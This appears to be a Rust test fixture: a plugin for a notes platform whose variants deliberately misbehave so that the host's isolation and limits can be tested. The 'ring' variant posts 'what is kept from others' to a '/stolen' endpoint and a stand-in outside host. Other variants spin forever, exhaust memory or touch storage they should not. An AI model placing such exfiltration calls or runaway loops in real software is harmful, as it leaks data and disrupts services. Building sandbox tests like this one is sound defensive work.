//! A writer for the tests' platform, of which a test makes another version by writing another word over `live` in its
//! data: there is no other way for two versions to differ under one configuration.
//!
//! | word | what is different |
//! |---|---|
//! | `live` | nothing |
//! | `next` | a header more, and a 429 is a failure for now |
//! | `trap`, `spin`, `grow` | every note traps, computes for ever, takes memory without end |
//! | `ring` | asks other hosts, and the platform for something else |
//! | `hold` | keeps values and sets timers |
//! | `read` | reads a value that the others don't |
//!
//! A random number stands in a header of every request: two calls of one version never send the same.

use std::hash::{BuildHasher, Hasher, RandomState};
use std::time::Duration;

use serde::Serialize;
use sidenote_plugin::crypto::{self, Encoding, Hash};
use sidenote_plugin::http::{self, Request as Outgoing, Response};
use sidenote_plugin::json::NoteBody;
use sidenote_plugin::kv::{self, Scope};
use sidenote_plugin::timer::{self, DueTimer};
use sidenote_plugin::webhook::{Answer, Event, Rejection, Request};
use sidenote_plugin::{Call, Failure, Note, OnTimer, Posted, Webhook, Writer, clock, config, json};

/// The plugin.
pub struct Successor;

/// What a test writes over.
static WORD: [u8; 16] = *b"successor: live.";

fn word() -> String {
    let word = std::hint::black_box(&WORD);
    String::from_utf8_lossy(&word[11..15]).into_owned()
}

#[derive(Serialize)]
struct Envelope<'a> {
    r#type: &'static str,
    #[serde(flatten)]
    content: NoteBody<'a>,
    idempotency_key: &'a str,
    attempt: u32,
}

impl Writer for Successor {
    fn post_note(call: Call, note: Note) -> Result<Posted, Failure> {
        let word = word();
        misbehave(&word)?;
        let response = send(&call, &note, &word)?;
        if word == "next" && response.status == 429 {
            return Err(Failure::transient("429", "the platform asks for a pause"));
        }
        let response = response.error_for_status()?;
        let answer: serde_json::Value = response.json().unwrap_or_default();
        Ok(json::id(&answer["note_id"]).map_or_else(Posted::without_id, Posted::with_id))
    }
}

fn send(call: &Call, note: &Note, word: &str) -> Result<Response, Failure> {
    let key = &*call.idempotency_key;
    let content = NoteBody::from(note);
    let envelope =
        Envelope { r#type: "note", content, idempotency_key: key, attempt: call.attempt };
    let mut request = Outgoing::post(config::require("url")?).json(&envelope)?;
    let timestamp = clock::now().to_string();
    let data = [timestamp.as_bytes(), b".", request.as_body()].concat();
    let hex = crypto::hmac_sign("signing", Hash::Sha256, Encoding::Hex, &data);
    let hex = hex.map_err(Failure::config)?;
    request = request
        .header("x-sidenote-signature", format!("sha256={hex}"))
        .header("x-sidenote-delivery", key)
        .header("x-sidenote-timestamp", timestamp)
        .header("x-nonce", RandomState::new().build_hasher().finish().to_string());
    if config::flag("count")? {
        request = request.header("x-count", count()?);
    }
    if word == "next" {
        request = request.header("x-next-marker", "of the new version");
    }
    Ok(request.send()?)
}

/// How many notes of the session were posted before.
fn count() -> Result<String, Failure> {
    let before = kv::get(Scope::Session, "count")?.unwrap_or_default();
    let before = String::from_utf8_lossy(&before).parse().unwrap_or(0_u64);
    kv::set(Scope::Session, "count", (before + 1).to_string())?;
    Ok(before.to_string())
}

fn misbehave(word: &str) -> Result<(), Failure> {
    match word {
        "trap" => panic!("this version traps"),
        "spin" => {
            let mut turns = 0_u64;
            loop {
                turns = std::hint::black_box(turns.wrapping_add(1));
            }
        }
        "grow" => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(std::hint::black_box(vec![1_u8; 1 << 20]));
            }
        }
        "ring" => {
            let own = config::require("url")?;
            for url in ["http://127.0.0.1:9/stolen", "http://ann.of.somebody.example/", &own] {
                let body = "what is kept from others";
                drop(http::Request::post(url).header("x-next-marker", "1").body(body).send());
            }
        }
        "hold" => {
            drop(kv::set(Scope::Plugin, "held", "by the new version"));
            drop(kv::set(Scope::Session, "held", "by the new version"));
            drop(timer::set("held", Duration::from_secs(1), "by the new version"));
        }
        "read" => drop(kv::get(Scope::Plugin, "another")),
        _ => {}
    }
    Ok(())
}

impl Webhook for Successor {
    fn receive(request: Request) -> Result<Vec<Event>, Rejection> {
        let text = format!("{} bytes, {}", request.body.len(), word());
        Ok(vec![Event::Challenge(Answer::text(text))])
    }
}

impl OnTimer for Successor {
    fn wake(_: Call, _: DueTimer) -> Result<(), Failure> {
        misbehave(&word())
    }
}

sidenote_plugin::export!(Successor: Writer, Webhook, OnTimer);
